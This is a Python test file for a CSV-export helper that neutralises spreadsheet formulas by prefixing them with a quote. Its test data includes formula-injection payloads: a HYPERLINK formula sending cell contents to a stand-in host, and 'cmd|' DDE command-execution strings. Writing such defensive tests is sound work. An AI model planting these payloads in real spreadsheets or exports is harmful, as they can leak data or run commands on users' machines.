"""Texts that a spreadsheet would compute are protected in CSV files, and read back as they were."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from attnctl.reports.csv_cells import protected, restored

FORMULAS = (
    '=HYPERLINK("http://x/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",  # noqa: RUF001
    "-",
    "--1",
    "+1,5",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_a_text(text: str) -> None:
    assert protected(text) == f"'{text}"
    assert restored(f"'{text}") == text


@pytest.mark.parametrize(
    "value", ["-1", "+2.5", "-.5e-3", "1e9", "-0.0", -1, 2.5, None, True, "", "a=b", "it's", "'a'"]
)
def test_numbers_and_other_texts_stay_as_they_are(value: object) -> None:
    assert protected(value) is value
    assert not isinstance(value, str) or restored(value) == value


@given(st.text(st.sampled_from("'=+-@\t\r\n1.e a"), max_size=6))
def test_every_text_is_read_back_and_none_is_a_formula(text: str) -> None:
    written = protected(text)
    assert isinstance(written, str)
    assert restored(written) == text
    assert written[:1] not in {"=", "@", "\t", "\r", "\n"}
    if written[:1] in {"+", "-"}:
        float(written)
    stream = io.StringIO()
    csv.writer(stream, quoting=csv.QUOTE_ALL).writerow([written])
    assert next(csv.reader(io.StringIO(stream.getvalue(), newline=""))) == [written]
